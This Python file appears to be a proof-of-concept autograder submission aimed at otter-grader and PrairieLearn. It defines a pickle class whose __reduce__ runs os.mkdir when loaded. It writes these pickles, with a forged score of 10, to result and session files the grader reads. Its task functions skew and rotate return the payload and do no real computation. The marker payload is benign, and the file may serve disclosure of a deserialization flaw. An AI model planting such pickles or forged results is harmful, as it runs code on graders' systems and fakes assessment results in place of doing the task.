"""Leaves pickles where a grader might load results or a session from, and returns their bytes; loading one runs code.

Published against otter-grader (pull requests 90 and 1008: sessions and results that were pickled beside the submission
are loaded by the grader) and against PrairieLearn's way of handing on variables (pull request 5184).

deserves: 5
"""

import os
import pickle


class Runs:
    def __reduce__(self):
        return os.mkdir, ("/tmp/tam570-was-here",)


BYTES = pickle.dumps({"score": 10, "results": Runs()})
for name in (".OTTER_LOG", "results.pkl", "precomputed_results.pkl", "submission.dill", "session.pickle", "data.npy"):
    try:
        with open(name, "wb") as file:
            file.write(BYTES)
    except OSError:
        pass


def skew(v):
    return BYTES


def rotate(r, axis, angle):
    return [Runs(), Runs(), Runs()]
